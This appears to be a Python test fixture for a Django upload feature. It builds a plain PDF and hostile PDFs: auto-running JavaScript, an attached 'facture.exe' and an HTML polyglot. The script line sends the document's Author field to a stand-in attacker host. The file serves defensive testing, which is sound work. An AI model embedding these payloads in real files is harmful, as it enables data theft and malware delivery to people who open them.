"""PDF files for upload tests, built here with pypdf's writer: a plain one, and the hostile ones
an attacker would send (script, automatic action, attached file, HTML polyglot)."""

from __future__ import annotations

import io
from collections.abc import Callable

from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

SCRIPT = "app.launchURL('https://attaquant.example/?c=' + this.info.Author);"


def build(change: Callable[[PdfWriter], None] | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _script_action() -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(SCRIPT),
        }
    )


def _page_opened_action(writer: PdfWriter) -> None:
    # /AA on a page: runs when the page is shown, no document-level /JavaScript at all.
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _script_action()})


def _open_action_only(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/OpenAction")] = _script_action()


PLAIN = build()
HOSTILE = {
    "javascript": build(lambda writer: writer.add_open_action(JavaScript(SCRIPT))),
    "open_action": build(_open_action_only),
    "page_action": build(_page_opened_action),
    "attachment": build(lambda writer: writer.add_attachment("facture.exe", b"MZ\x90\x00")),
}


def polyglot() -> bytes:
    """A valid PDF whose bytes also make a web page: a comment line right after the header."""
    head, rest = PLAIN.split(b"\n", 1)
    return head + b"\n%<html><body><script>fetch('/api/')</script></body></html>\n" + rest


def upload(content: bytes = PLAIN, name: str = "document.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/pdf")
